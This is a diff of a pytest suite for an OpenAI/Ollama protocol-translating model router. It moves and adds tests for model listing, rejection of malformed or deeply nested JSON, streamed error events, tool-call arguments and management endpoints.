-    aliases = {"friend": {"instances": ["here/one"]}}
-    table = {"servers": servers, "aliases": aliases}
-    settings = {"DEFAULT_UPSTREAM": there.url, "MODEL_MAP": '{"exact":"one","/r/":"x"}'}
-    with here, there, Router(settings, table) as router:
-        names = model_names(router)
-        assert set(names[:2]) == {"friend", "exact"}
-        assert {"one", "two", "twin [here]", "twin [there]"} <= set(names)
-        assert "/r/" not in names and len(set(names)) == len(names)
-        assert model_names(router) == names
-        assert asked_for_models(there).count(f"Bearer {KEY}") == 1
-        assert model_names(router, "sk-of-another") == names
-        assert asked_for_models(there).count("Bearer sk-of-another") == 1
-        assert set(asked_for_models(here)) == {"Bearer sk-of-here"}
-        for name, upstream in (("here", here), ("there", there)):
-            got = tell("/v1/chat/completions", chat(f"twin [{name}]"), router)
-            assert got.status == 200
-            assert latest(upstream).model == "twin"
-
-
-def test_model_list_does_not_wait_for_the_slow() -> None:
-    slow, good = Upstream(lambda received: [HANG]), Upstream(models=["quick"])
-    table = {"servers": {"slow": slow.url, "good": good.url}}
-    with slow, good, Router({"DEFAULT_UPSTREAM": good.url}, table) as router:
-        began = time.monotonic()
-        assert model_names(router) == ["quick"]
-        assert time.monotonic() - began < 4  # the limit is 2 s
-
-
-def test_model_list_of_nobody_is_an_error() -> None:
-    settings = {"DEFAULT_UPSTREAM": switched_off("dead")}
-    with Router(settings, {"servers": {"gone": switched_off("gone")}}) as router:
-        got = request(router.port, "GET", "/v1/models")
-        assert got.status == 502
-        check_openai_error(got.json)
-
-
-@pytest.mark.parametrize("extra", [0, 1], ids=["alone", "beside a good one"])
-def test_model_list_that_is_too_deep_is_none(extra: int) -> None:
-    deep = b'{"data":[{"id":"a","x":' + b"[" * 980 + b"]" * 980 + b"}]}"
-    odd, good = Upstream(lambda r: answer(deep)), Upstream(models=["fine"])
-    table = {"servers": {"good": good.url} if extra else {}}
-    settings = {"DEFAULT_UPSTREAM": odd.url, "WEBUI_SECURITY": "NONE"}
-    with odd, good, Router(settings, table) as router:
-        got = request(router.port, "GET", "/v1/models")
-        assert got.status == (200 if extra else 502)
-        assert ("fine" if extra else "levels") in got.content.decode()
-        server = request(router.port, "GET", "/api/upstreams").json[0]
-        assert (server["state"], server["models"]) == ("up", [])
-        assert "levels" in server["last_error"]
-
-
-# -- OpenAI: what is refused -------------------------------------------------------
-
-MESSAGES = b'"messages":[{"role":"user","content":"hi"}]'
-BAD_JSON = {
-    "nothing": b"",
-    "half": b'{"model":"talk",',
-    "two documents": b'{"model":"talk"}{"model":"talk"}',
-    "array": b"[]",
-    "string": b'"talk"',
-    "null": b"null",
-    "number": b"7",
-    "single quotes": b"{'model':'talk'}",
-    "trailing comma": b'{"model":"talk",}',
-    "comment": b'{"model":"talk"/* */}',
-    "nan": b'{"model":"talk","temperature":NaN}',
-    "infinity": b'{"model":"talk","temperature":Infinity}',
-    "minus infinity": b'{"model":"talk","temperature":-Infinity}',
-    "integer of 5,000 digits": b'{"model":"talk","seed":' + b"7" * 5000 + b"}",
-    "arrays 210 deep": b'{"model":"talk","x":' + b"[" * 209 + b"]" * 209 + b"}",
-    "objects 210 deep": b'{"model":"talk","x":' + b'{"x":' * 208 + b"{}" + b"}" * 209,
-    "arrays 100,000 deep": b'{"model":"talk","x":' + b"[" * 100_000,
-    "invalid utf-8": b'{"model":"talk","user":"\xff\xfe"}',
-    "model null": b'{"model":null,' + MESSAGES + b"}",
-    "model number": b'{"model":5,' + MESSAGES + b"}",
-    "model array": b'{"model":["talk"],' + MESSAGES + b"}",
-    "model object": b'{"model":{},' + MESSAGES + b"}",
-    "model true": b'{"model":true,' + MESSAGES + b"}",
-    "model empty": b'{"model":"",' + MESSAGES + b"}",
-    "model missing": b"{" + MESSAGES + b"}",
-}
-OPENAI_PATHS = ("/v1/chat/completions", "/v1/completions", "/v1/embeddings")
-OLLAMA_PATHS = ("/api/chat", "/api/generate", "/api/embed", "/api/embeddings")
-
-
-def check_error(path: str, got: Answer) -> None:
-    """An error in the dialect of its path."""
-    assert (got.get("Content-Type") or "").startswith("application/json")
-    if path.startswith("/v1/"):
-        return check_openai_error(got.json)
-    assert set(got.json) == {"error"}
-    assert isinstance(got.json["error"], str) and got.json["error"]
-
-
-@pytest.mark.parametrize("content", BAD_JSON.values(), ids=BAD_JSON)
-@pytest.mark.parametrize("path", (*OPENAI_PATHS, *OLLAMA_PATHS))
-def test_bad_json(path: str, content: bytes) -> None:
-    with unheard():
-        got = tell(path, content)
-    assert got.status == 400
-    check_error(path, got)
-    assert tell("/v1/chat/completions", chat("talk")).status == 200
-
-
-WELL_FORMED = {
-    "arrays 190 deep": b"[" * 189 + b"]" * 189,
-    "objects 190 deep": b'{"x":' * 188 + b"{}" + b"}" * 188,
-    "brackets in a string": b'"' + b'[{\\"' * 500 + b'"',
-    "a wide array": b"[" + b"[]," * 5000 + b"0]",
-    "4,000 digits": b"7" * 4000,
-    "NaN in a string": b'"NaN, Infinity"',
-}
-
-
-@pytest.mark.parametrize("value", WELL_FORMED.values(), ids=WELL_FORMED)
-def test_unusual_but_good_request(value: bytes) -> None:
-    content = b'{"model":"talk",' + MESSAGES + b',"x":' + value + b"}"
-    assert tell("/v1/chat/completions", content).status == 200
-    assert latest().content == content
-
-
-@pytest.mark.parametrize("method", ("GET", "POST", "DELETE"))
-@pytest.mark.parametrize("path", ("/nope", "/api/nope", "/v2/chat/completions", "/v1x"))
-def test_unknown_path(method: str, path: str) -> None:
-    body = chat("talk") if method == "POST" else None
-    with unheard():
-        got = request(ways().port, method, path, body)
-    assert got.status == 404
-    assert got.json["error"]
-
-
-WRONG_METHODS = (
-    ("GET", "/api/chat", "POST"),
-    ("GET", "/api/generate", "POST"),
-    ("DELETE", "/api/embed", "POST"),
-    ("POST", "/api/tags", "GET"),
-    ("POST", "/api/version", "GET"),
-    ("GET", "/api/delete", "DELETE"),
-)
-
-
-@pytest.mark.parametrize("method, path, right", WRONG_METHODS)
-def test_wrong_method(method: str, path: str, right: str) -> None:
-    with unheard():
-        got = request(ways().port, method, path, {} if method == "POST" else None)
-    assert got.status == 405
-    assert right in re.split(r"\s*,\s*", got.get("Allow") or "")
-    check_error(path, got)
-
-
-# -- Ollama: the official client ---------------------------------------------------
+# --- Ollama: the official client ------------------------------------------------------
 
 RFC_3339 = re.compile(r"\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d(\.\d+)?(Z|[+-]\d\d:\d\d)")
 DURATIONS = ("total_duration", "load_duration", "prompt_eval_duration", "eval_duration")
@@ -7657,28 +4612,6 @@ def test_ollama_old_embeddings(sdk: Sdk, way: str) -> None:
     assert latest().json["input"] in ("a", ["a"])
 
 
-@each_ollama
-def test_ollama_list(sdk: Sdk) -> None:
-    models = sdk.call(catalog().url, "list").models
-    names = {(m.model or "").removesuffix(":latest") for m in models}
-    assert {"talk", "org/some-model", "alias-talk", "old-name"} <= names
-    assert all(m.modified_at and m.details for m in models)
-
-
-@each_ollama
-@pytest.mark.parametrize("name", ("tiny", "tiny:latest", "alias-talk", "old-name"))
-def test_ollama_show(sdk: Sdk, name: str) -> None:
-    got = sdk.call(catalog().url, "show", name)
-    assert got.details is not None
-    assert got.modelinfo is not None
-    assert "completion" in got.capabilities
-
-
-@each_ollama
-def test_ollama_ps(sdk: Sdk) -> None:
-    assert isinstance(sdk.call(catalog().url, "ps").models, list)
-
-
 @each_way
 @each_ollama
 @whole_or_lines
@@ -7737,7 +4670,7 @@ def test_ollama_vision(sdk: Sdk, way: str, method: str) -> None:
     ]
 
 
-# -- Ollama: errors ----------------------------------------------------------------
+# --- Ollama: errors -------------------------------------------------------------------
 
 
 @each_way
@@ -7805,7 +4738,127 @@ def test_ollama_error_keeps_retry_after() -> None:
     assert got.json == {"error": "the server's own 429"}
 
 
-# -- Ollama: in front of OpenAI servers --------------------------------------------
+ERROR_EVENTS = {
+    "named": b'event: error\ndata: {"message":"no memory","code":500}\n\n',
+    "field": b'error: {"code":500,"message":"no memory"}\n\n',
+    "words": b"error: no memory\n\n",
+    "both": b'event:error\ndata: {"error":{"message":"no memory"}}\n\n',
+}
+
+
+@pytest.mark.parametrize("error", ERROR_EVENTS.values(), ids=ERROR_EVENTS)
+@pytest.mark.parametrize("stream", (True, False), ids=("lines", "whole"))
+def test_ollama_reads_error_events(error: bytes, stream: bool) -> None:
+    model = bench().plays(sse_answer([WORD, error]))
+    got = tell("/api/chat", {**chat(model), "stream": stream})
+    assert (got.documents[-1] if stream else got.json) == {"error": "no memory"}
+    assert got.status == (200 if stream else 502)
+
+
+@pytest.mark.parametrize("said", ([], [WORD]), ids=("nothing", "a word"))
+@pytest.mark.parametrize("stream", (True, False), ids=("lines", "whole"))
+def test_ollama_makes_no_end_for_a_stream_without_one(said: list[bytes], stream: bool) -> None:
+    model = bench().plays(sse_answer(said))
+    got = tell("/api/chat", {**chat(model), "stream": stream})
+    *words, last = got.documents if stream and said else [got.json]
+    assert last == {"error": "the stream ended before the answer was complete"}
+    assert [word["done"] for word in words] == [False] * (stream and len(said))
+    assert got.status == (200 if words else 502)
+
+
+@pytest.mark.parametrize("error", list(ERROR_EVENTS.values())[:2], ids=list(ERROR_EVENTS)[:2])
+def test_error_event_ends_a_stream(error: bytes) -> None:
+    model = bench().plays(sse_answer([WORD, error], chunked=False))
+    got = tell("/v1/chat/completions", chat(model, stream=True))
+    assert got.content == WORD + error
+
+
+ERROR_CONTENTS = {
+    "openai": b'{"error":{"message":"no such layer","type":"x","code":7}}',
+    "text in error": b'{"error":"no such layer"}',
+    "message": b'{"object":"error","message":"no such layer","code":400}',
+    "detail": b'{"detail":"no such layer"}',
+    "list of details": b'{"detail":[{"loc":["body"],"msg":"no such layer"}]}',
+    "plain text": b"no such layer",
+    "html": b"<html><body>no such layer</body></html>",
+}
+
+
+@pytest.mark.parametrize("content", ERROR_CONTENTS.values(), ids=ERROR_CONTENTS)
+@pytest.mark.parametrize("path", ("/api/chat", "/api/embed"))
+def test_ollama_error_is_always_text(path: str, content: bytes) -> None:
+    kind = "application/json" if content.startswith(b"{") else "text/html"
+    model = bench().plays(answer(content, 422, kind=kind))
+    got = tell(path, {"model": model, "messages": ASKED, "input": "a"})
+    assert got.status == 422
+    check_error(path, got)
+    assert "no such layer" in got.json["error"]
+
+
+def test_ollama_error_without_content() -> None:
+    got = tell("/api/chat", chat(bench().plays(answer(b"", 503))))
+    assert got.status == 503
+    check_error("/api/chat", got)
+
+
+BAD_REQUESTS: dict[str, dict] = {
+    "messages": {"messages": "hello"},
+    "a message": {"messages": ["hello"]},
+    "options": {"messages": ASKED, "options": "cold"},
+    "format": {"messages": ASKED, "format": 5},
+    "an image": {"messages": [{**ASKED[0], "images": ["no base64!"]}]},
+    "a tool call": {"messages": [{"role": "assistant", "tool_calls": [{}]}]},
+    "a limit": {"messages": ASKED, "options": {"num_predict": 1e999}},
+    "a long format": {"messages": ASKED, "format": ["y" * 99_999]},
+    **{
+        f"a huge number in {name}": {"messages": [{**ASKED[0], **message}], **more}
+        for name, message, more in (
+            ("options", {}, {"options": {"temperature": 1e999}}),
+            ("tools", {}, {"tools": [1e999]}),
+            ("format", {}, {"format": {"x": -1e999}}),
+            ("a role", {"role": 1e999}, {}),
+            ("an id", {"role": "tool", "tool_call_id": 1e999}, {}),
+            ("a call", {"tool_calls": [{"function": {"name": "f", "arguments": [1e999]}}]}, {}),
+        )
+    },
+}
+
+
+@pytest.mark.parametrize("body", BAD_REQUESTS.values(), ids=BAD_REQUESTS)
+def test_ollama_bad_request(body: dict) -> None:
+    with unheard():
+        got = tell("/api/chat", huge({"model": "talk", **body}))
+    assert got.status == 400
+    check_error("/api/chat", got)
+    assert len(got.content) < 200
+
+
+@pytest.mark.parametrize(
+    "message",
+    [
+        {"role": "tool", "tool_name": ["x"], "content": "y"},
+        {"role": "assistant", "tool_calls": [{"function": {"name": {"a": 1}}}]},
+    ],
+    ids=["result", "call"],
+)
+def test_a_tool_name_that_is_none_is_told(message: dict[str, Any]) -> None:
+    got = request(shared().port, "POST", "/api/chat", {"model": "tiny", "messages": [message]})
+    assert got.status == 400 and "messages[0]" in got.json["error"] and "name" in got.json["error"]
+
+
+# --- Ollama in front of OpenAI servers: requests --------------------------------------
+
+OPTIONS = [
+    ({"num_predict": 128.0}, {"max_tokens": 128}),
+    ({"num_predict": True}, {}),
+    ({"num_predict": -1}, {}),
+    ({"temperature": None, "top_k": 3, "num_ctx": 4096}, {"top_k": 3}),
+]
+
+
+@pytest.mark.parametrize("options, wanted", OPTIONS)
+def test_options_of_the_other_protocol(options: Any, wanted: Any) -> None:
+    assert smolrouter.openai_options({"options": options, "format": None}) == wanted
 
 
 @pytest.mark.parametrize("path", ("/api/chat", "/api/generate"))
@@ -7887,6 +4940,20 @@ def test_ollama_images_alone(prefix: str) -> None:
     assert [p for p in content if p["type"] == "image_url"] == [image_part("png")]
 
 
+@pytest.mark.parametrize("kind", ["application/x-www-form-urlencoded", "text/plain", None])
+def test_a_translated_request_is_json_whatever_it_was_called(kind: str | None) -> None:
+    for path, document in ASKS.items():
+        if path.startswith("/api/"):
+            name = stage().plays([*FINE])
+            data = encode_request("POST", path, {**document, "model": name, "stream": False})
+            called = f"Content-Type: {kind}\r\n".encode() if kind else b""
+            raw(shared().port, data.replace(b"Content-Type: application/json\r\n", called))
+            assert stage().heard(name)[0].get_all("Content-Type") == ["application/json"]
+
+
+# --- Ollama in front of OpenAI servers: tools -----------------------------------------
+
+
 def ollama_calls(*calls: tuple[str, dict]) -> dict:
     """An assistant's message as Ollama keeps it."""
     said = [{"function": {"name": n, "arguments": a}} for n, a in calls]
@@ -7920,8 +4987,6 @@ TOOL_TALKS = {
         tool_result("weather", "rainy"),
     ],
 }
-
-
 NAMELESS = [{"role": "tool", "content": "x"}, tool_result("sun", "x"), tool_result("clock", "x")]
 RESULT_IDS = {  # what tools said after calls of clock, clock, weather; which calls that answers
     "no name": ([NAMELESS[0]] * 4, ["call_0_0", "call_0_1", "call_0_2", "call_4"]),
@@ -7950,18 +5015,6 @@ def test_ollama_calls_and_results_cost_their_sum() -> None:
     )
 
 
-def test_no_think_looks_at_parts_alone() -> None:
-    """What is nested deeper is no text of a message; each level would be one more reading."""
-    deep: Any = [[]] * 90_000
-    for _ in range(180):
-        deep = {"text": deep}
-    router = router_for({"DEFAULT_UPSTREAM": bench().url, "DISABLE_THINKING": "true"})
-    model = bench().plays(json_answer(completion({}, ANSWER)))
-    body = {"model": model, "messages": [*ASKED, {"role": "user", "content": deep}]}
-    assert request(router.port, "POST", CHAT, body, patience=PATIENCE).status == 200
-    assert latest().json["messages"][0]["content"].endswith(" /no_think")
-
-
 @pytest.mark.parametrize("talk", TOOL_TALKS.values(), ids=TOOL_TALKS)
 def test_ollama_tool_results_find_their_calls(talk: list[dict]) -> None:
     body = {"model": "talk", "messages": [*ASKED, *talk], "tools": TOOLS}
@@ -7984,6 +5037,54 @@ def test_ollama_tool_results_find_their_calls(talk: list[dict]) -> None:
             names[call["id"]] = function["name"]
     assert sorted(answered) == sorted(names)
 
+
+ARGUMENTS: Cases = (  # what a server says, what a client gets; None: some object
+    ('{"a": 1}', {"a": 1}),
+    ('{"a": 1.50, "b": "\\u00e9"}', {"a": 1.5, "b": "\xe9"}),
+    ({"a": 1}, {"a": 1}),
+    ("{}", {}),
+    ("", {}),
+    (None, {}),
+    ('{"a": "cut o', None),
+    ("[1]", None),
+)
+
+
+@pytest.mark.parametrize("arguments, expected", ARGUMENTS)
+@whole_or_lines
+def test_ollama_arguments_are_objects(arguments: Any, expected: dict | None, stream: bool) -> None:
+    call = {
+        "id": "c",
+        "type": "function",
+        "index": 0,
+        "function": {"name": "f", "arguments": arguments},
+    }
+    said = {"role": "assistant", "content": None, "tool_calls": [call]}
+    whole = {"choices": [{"index": 0, "message": said, "finish_reason": "tool_calls"}]}
+    events = [delta({}, said), delta({}, {}, "tool_calls"), "[DONE]"]
+    model = bench().plays(sse_answer(events) if stream else json_answer(whole))
+    got = tell("/api/chat", {**chat(model), "stream": stream})
+    parts = got.documents if stream else [got.json]
+    (called,) = [c for p in parts for c in p["message"].get("tool_calls") or ()]
+    assert called["function"]["name"] == "f"
+    assert isinstance(called["function"]["arguments"], dict)
+    assert expected is None or called["function"]["arguments"] == expected
+
+
+def test_calls_of_other_ids_are_other_calls() -> None:
+    def call(name: str) -> dict:
+        function = {"name": name, "arguments": '{"x":1}'}
+        calls = [{"index": 0, "id": f"id-{name}", "function": function}]
+        return {"choices": [{"index": 0, "delta": {"tool_calls": calls}}]}
+
+    model = stage().plays(sse_answer([call("f"), call("g"), ENDED, "[DONE]"]))
+    got = request(shared().port, "POST", "/api/chat", asking("/api/chat", model, True))
+    calls = [c for d in got.documents for c in d.get("message", {}).get("tool_calls", [])]
+    assert [c["function"]["name"] for c in calls] == ["f", "g"]
+    assert [c["function"]["arguments"] for c in calls] == [{"x": 1}] * 2
+
+
+# --- Ollama in front of OpenAI servers: answers ---------------------------------------
 
 OLLAMA_THOUGHTS: Cases = (  # the model, what was asked, thoughts and words that come back
     ("think", {}, None, "Forty-two."),
@@ -8012,6 +5113,12 @@ def test_ollama_thinking(
         assert "".join(p.get("thinking") or "" for p in spoken).strip() == thoughts
     told = latest().json["messages"][-1]["content"]
     assert told == ("hello /no_think" if asked.get("think") is False else "hello")
+
+
+def test_ollama_thinking_by_degrees() -> None:
+    got = tell("/api/chat", {**chat("think"), "think": "high", "stream": False})
+    assert got.json["message"]["thinking"] == "Six times seven."
+    assert got.json["message"]["content"] == "Forty-two."
 
 
 @pytest.mark.parametrize("path", ("/api/chat", "/api/generate"))
@@ -8061,222 +5168,11 @@ def test_ollama_latest_is_no_part_of_the_name(path: str, asked: str) -> None:
     check_ollama(got.documents, asked)
 
 
-def test_ollama_tags_and_models_say_the_same() -> None:
-    tags = request(catalog().port, "GET", "/api/tags").json["models"]
-    names = [model["name"].removesuffix(":latest") for model in tags]
-    assert set(names) == set(model_names(catalog()))
-    for model in tags:
-        assert model["model"] == model["name"]
-        assert RFC_3339.fullmatch(model["modified_at"])
-        assert isinstance(model["size"], int)
-        assert isinstance(model["digest"], str)
-        assert isinstance(model["details"], dict)
-
-
-def test_ollama_version() -> None:
-    got = request(ways().port, "GET", "/api/version")
-    assert (got.status, [*got.json]) == (200, ["version"])
-    assert re.fullmatch(r"\d+\.\d+\.\d+\S*", got.json["version"])
-
-
-def test_ollama_head_of_root() -> None:
-    got = request(ways().port, "HEAD", "/")
-    assert (got.status, got.content) == (200, b"")
-
-
-MANAGEMENT = (
-    ("POST", "/api/pull", {"model": "llama3"}),
-    ("POST", "/api/push", {"model": "me/llama3", "stream": False}),
-    ("POST", "/api/create", {"model": "mine", "from": "llama3", "system": "Be brief."}),
-    ("POST", "/api/copy", {"source": "llama3", "destination": "mine"}),
-    ("DELETE", "/api/delete", {"model": "mine"}),
-    ("HEAD", "/api/blobs/sha256:29fdb92e57cf", None),
-    ("POST", "/api/blobs/sha256:29fdb92e57cf", SOUND),
-)
-
-
-@pytest.mark.parametrize("method, path, body", MANAGEMENT)
-def test_ollama_management_needs_a_server(method: str, path: str, body: Any) -> None:
-    with unheard():
-        got = request(ways().port, method, path, body)
-    assert got.status == 501
-    if method != "HEAD":
-        check_error(path, got)
-
-
-BAD_REQUESTS: dict[str, dict] = {
-    "messages": {"messages": "hello"},
-    "a message": {"messages": ["hello"]},
-    "options": {"messages": ASKED, "options": "cold"},
-    "format": {"messages": ASKED, "format": 5},
-    "an image": {"messages": [{**ASKED[0], "images": ["no base64!"]}]},
-    "a tool call": {"messages": [{"role": "assistant", "tool_calls": [{}]}]},
-    "a limit": {"messages": ASKED, "options": {"num_predict": 1e999}},
-    "a long format": {"messages": ASKED, "format": ["y" * 99_999]},
-    **{
-        f"a huge number in {name}": {"messages": [{**ASKED[0], **message}], **more}
-        for name, message, more in (
-            ("options", {}, {"options": {"temperature": 1e999}}),
-            ("tools", {}, {"tools": [1e999]}),
-            ("format", {}, {"format": {"x": -1e999}}),
-            ("a role", {"role": 1e999}, {}),
-            ("an id", {"role": "tool", "tool_call_id": 1e999}, {}),
-            ("a call", {"tool_calls": [{"function": {"name": "f", "arguments": [1e999]}}]}, {}),
-        )
-    },
-}
-
-
-def huge(document: Any) -> bytes:
-    """The document as JSON, its infinities as numbers that no double holds."""
-    return dumps(document).replace(b"Infinity", b"1e999")
-
-
-@pytest.mark.parametrize("body", BAD_REQUESTS.values(), ids=BAD_REQUESTS)
-def test_ollama_bad_request(body: dict) -> None:
-    with unheard():
-        got = tell("/api/chat", huge({"model": "talk", **body}))
-    assert got.status == 400
-    check_error("/api/chat", got)
-    assert len(got.content) < 200
-
-
-@pytest.mark.parametrize("path, more", [
-    ("/api/generate", {"prompt": "hi", "raw": True, "suffix": 1e999}),
-    ("/api/embed", {"input": 1e999}), ("/api/embed", {"input": "a", "dimensions": 1e999}),
-    (CHAT, {"messages": [], "stream": True, "stream_options": {"x": 1e999}}),
-])  # fmt: skip
-def test_number_that_no_double_holds_is_not_written_again(path: str, more: dict) -> None:
-    with unheard():
-        got = tell(path, huge({"model": "talk", **more}))
-    assert got.status == 400
-    check_error(path, got)
-
-
-def test_number_that_no_double_holds_stays_where_nothing_is_written() -> None:
-    body = huge(chat("talk", temperature=1e999, stream=True))
-    assert tell(CHAT, body).status == 200
-    assert latest().content.startswith(body[:-1])  # `stream_options` is added at its end
-
-
-TOO_LARGE = {"function": {"name": "f", "arguments": '{"a":1e999}'}}
-HUGE_ANSWERS: Cases = (  # where it is asked, the answer, what of it a client reads
-    ("/api/embed", {"data": [{"embedding": [1e999, 1]}]}, b"[[null,1]]"),
-    ("/api/chat", {"choices": [{"message": {"tool_calls": [TOO_LARGE]}, "finish_reason": "stop"}]},
-     b'"arguments":{"a":null}'),
-    ("/api/chat", {"choices": [{"message": {"tool_calls": [
-        {"function": {"name": "f", "arguments": {"a": 1e999}}}]}}]}, b'"error":'),
-    ("/api/chat", {"choices": [{"message": {"content": "a", "images": ["?"]}}]}, b'"error":'),
-    (CHAT, {"choices": [{"message": {"content": "<think>a</think>b"}, "logprobs": -1e999}]},
-     b'"b"},"logprobs":-1e999'),
-)  # fmt: skip
-
-
-@pytest.mark.parametrize("path, document, expected", HUGE_ANSWERS)
-def test_number_that_no_double_holds_in_an_answer(
-    path: str, document: dict, expected: bytes
-) -> None:
-    model = bench().plays(answer(huge(document), kind="application/json"))
-    got = tell(path, {"model": model, "input": "a", "messages": ASKED, "stream": False})
-    assert got.status == (502 if expected == b'"error":' else 200)
-    assert expected in got.content
-
-
-def test_infinite_log_probability_of_a_held_text_is_null() -> None:
-    """An event of the router's own, for a text that was held, is JSON in any case."""
-    said = {"choices": [{"index": 0, "delta": {"content": "<thi"}, "logprobs": -1e999}]}
-    model = bench().plays(sse_answer([event(said), "[DONE]"]))
-    got = tell(CHAT, chat(model, stream=True))
-    assert b'"logprobs":null' in got.content and b'"<thi"' in got.content
-
-
-def test_long_error_of_a_server_is_cut_in_row_and_line() -> None:
-    failed = {"error": {"message": "no " + "x" * 200_000}}
-    model = stage().plays(json_answer(failed))
-    got = request(logging().port, "POST", "/api/chat", chat(model, stream=False))
-    assert got.json["error"] == failed["error"]["message"]
-    assert row_of(logging(), model)["error_message"] == failed["error"]["message"][:400]
-    line = until(lambda: [li for li in logging().stderr.splitlines() if model in li])[0]
-    assert len(line) < 1000
-
-
-@pytest.mark.parametrize("method, path, more", [
-    ("GET", f"/v1/models/{'y' * 9999}", None), ("POST", "/api/show", {"model": "y" * 9999}),
-    ("y" * 9999, "/v1/models", None),
-])  # fmt: skip
-def test_long_name_is_quoted_in_part(method: str, path: str, more: Any) -> None:
-    got = request(ways().port, method, path, more)
-    assert got.status in (404, 405) and len(got.content) < 500
-
-
 @pytest.mark.parametrize("path", ("/api/embed", "/api/embeddings"))
 def test_ollama_vectors_are_no_stream(path: str) -> None:
     got = tell(path, {"model": "vectors", "input": "a", "prompt": "a"})
     assert (got.get("Content-Type") or "").startswith("application/json")
     assert "stream" not in latest().json
-
-
-# -- Ollama: servers that do it their own way --------------------------------------
-
-ERROR_CONTENTS = {
-    "openai": b'{"error":{"message":"no such layer","type":"x","code":7}}',
-    "text in error": b'{"error":"no such layer"}',
-    "message": b'{"object":"error","message":"no such layer","code":400}',
-    "detail": b'{"detail":"no such layer"}',
-    "list of details": b'{"detail":[{"loc":["body"],"msg":"no such layer"}]}',
-    "plain text": b"no such layer",
-    "html": b"<html><body>no such layer</body></html>",
-}
-
-
-@pytest.mark.parametrize("content", ERROR_CONTENTS.values(), ids=ERROR_CONTENTS)
-@pytest.mark.parametrize("path", ("/api/chat", "/api/embed"))
-def test_ollama_error_is_always_text(path: str, content: bytes) -> None:
-    kind = "application/json" if content.startswith(b"{") else "text/html"
-    model = bench().plays(answer(content, 422, kind=kind))
-    got = tell(path, {"model": model, "messages": ASKED, "input": "a"})
-    assert got.status == 422
-    check_error(path, got)
-    assert "no such layer" in got.json["error"]
-
-
-def test_ollama_error_without_content() -> None:
-    got = tell("/api/chat", chat(bench().plays(answer(b"", 503))))
-    assert got.status == 503
-    check_error("/api/chat", got)
-
-
-ARGUMENTS: Cases = (  # what a server says, what a client gets; None: some object
-    ('{"a": 1}', {"a": 1}),
-    ('{"a": 1.50, "b": "\\u00e9"}', {"a": 1.5, "b": "\xe9"}),
-    ({"a": 1}, {"a": 1}),
-    ("{}", {}),
-    ("", {}),
-    (None, {}),
-    ('{"a": "cut o', None),
-    ("[1]", None),
-)
-
-
-@pytest.mark.parametrize("arguments, expected", ARGUMENTS)
-@whole_or_lines
-def test_ollama_arguments_are_objects(arguments: Any, expected: dict | None, stream: bool) -> None:
-    call = {
-        "id": "c",
-        "type": "function",
-        "index": 0,
-        "function": {"name": "f", "arguments": arguments},
-    }
-    said = {"role": "assistant", "content": None, "tool_calls": [call]}
-    whole = {"choices": [{"index": 0, "message": said, "finish_reason": "tool_calls"}]}
-    events = [delta({}, said), delta({}, {}, "tool_calls"), "[DONE]"]
-    model = bench().plays(sse_answer(events) if stream else json_answer(whole))
-    got = tell("/api/chat", {**chat(model), "stream": stream})
-    parts = got.documents if stream else [got.json]
-    (called,) = [c for p in parts for c in p["message"].get("tool_calls") or ()]
-    assert called["function"]["name"] == "f"
-    assert isinstance(called["function"]["arguments"], dict)
-    assert expected is None or called["function"]["arguments"] == expected
 
 
 SAID = {
@@ -8339,13 +5235,75 @@ def test_ollama_lines_without_any_filter() -> None:
     check_ollama(got.documents, model)
 
 
-def test_ollama_thinking_by_degrees() -> None:
-    got = tell("/api/chat", {**chat("think"), "think": "high", "stream": False})
-    assert got.json["message"]["thinking"] == "Six times seven."
-    assert got.json["message"]["content"] == "Forty-two."
+# --- Ollama: models and their management ----------------------------------------------
 
 
-# -- Ollama: natively --------------------------------------------------------------
+@each_ollama
+def test_ollama_list(sdk: Sdk) -> None:
+    models = sdk.call(catalog().url, "list").models
+    names = {(m.model or "").removesuffix(":latest") for m in models}
+    assert {"talk", "org/some-model", "alias-talk", "old-name"} <= names
+    assert all(m.modified_at and m.details for m in models)
+
+
+@each_ollama
+@pytest.mark.parametrize("name", ("tiny", "tiny:latest", "alias-talk", "old-name"))
+def test_ollama_show(sdk: Sdk, name: str) -> None:
+    got = sdk.call(catalog().url, "show", name)
+    assert got.details is not None
+    assert got.modelinfo is not None
+    assert "completion" in got.capabilities
+
+
+@each_ollama
+def test_ollama_ps(sdk: Sdk) -> None:
+    assert isinstance(sdk.call(catalog().url, "ps").models, list)
+
+
+def test_ollama_tags_and_models_say_the_same() -> None:
+    tags = request(catalog().port, "GET", "/api/tags").json["models"]
+    names = [model["name"].removesuffix(":latest") for model in tags]
+    assert set(names) == set(model_names(catalog()))
+    for model in tags:
+        assert model["model"] == model["name"]
+        assert RFC_3339.fullmatch(model["modified_at"])
+        assert isinstance(model["size"], int)
+        assert isinstance(model["digest"], str)
+        assert isinstance(model["details"], dict)
+
+
+def test_ollama_version() -> None:
+    got = request(ways().port, "GET", "/api/version")
+    assert (got.status, [*got.json]) == (200, ["version"])
+    assert re.fullmatch(r"\d+\.\d+\.\d+\S*", got.json["version"])
+
+
+def test_ollama_head_of_root() -> None:
+    got = request(ways().port, "HEAD", "/")
+    assert (got.status, got.content) == (200, b"")
+
+
+MANAGEMENT = (
+    ("POST", "/api/pull", {"model": "llama3"}),
+    ("POST", "/api/push", {"model": "me/llama3", "stream": False}),
+    ("POST", "/api/create", {"model": "mine", "from": "llama3", "system": "Be brief."}),
+    ("POST", "/api/copy", {"source": "llama3", "destination": "mine"}),
+    ("DELETE", "/api/delete", {"model": "mine"}),
+    ("HEAD", "/api/blobs/sha256:29fdb92e57cf", None),
+    ("POST", "/api/blobs/sha256:29fdb92e57cf", SOUND),
+)
+
+
+@pytest.mark.parametrize("method, path, body", MANAGEMENT)
+def test_ollama_management_needs_a_server(method: str, path: str, body: Any) -> None:
+    with unheard():
+        got = request(ways().port, method, path, body)
+    assert got.status == 501
+    if method != "HEAD":
+        check_error(path, got)
+
+
+# --- Ollama in front of Ollama servers ------------------------------------------------
 
 NATIVE_LINES = [
     b'{"model":"llama3","created_at":"2026-01-02T03:04:05.123456789Z", '
@@ -8530,23 +5488,6 @@ def test_native_list_and_show(sdk: Sdk) -> None:
     assert got.capabilities == NATIVE_SHOW["capabilities"]
 
 
-@each_openai
-@whole_or_streamed
-def test_openai_client_of_an_ollama_server(sdk: Sdk, stream: bool) -> None:
-    got = sdk.call(
-        native().url,
-        "chat.completions.create",
-        model="rule-llama3",
-        messages=ASKED,
-        stream=stream,
-    )
-    choices = [p.choices[0] for p in (got if stream else [got])]
-    said = [(c.delta if stream else c.message).content or "" for c in choices]
-    assert "".join(said) == ANSWER
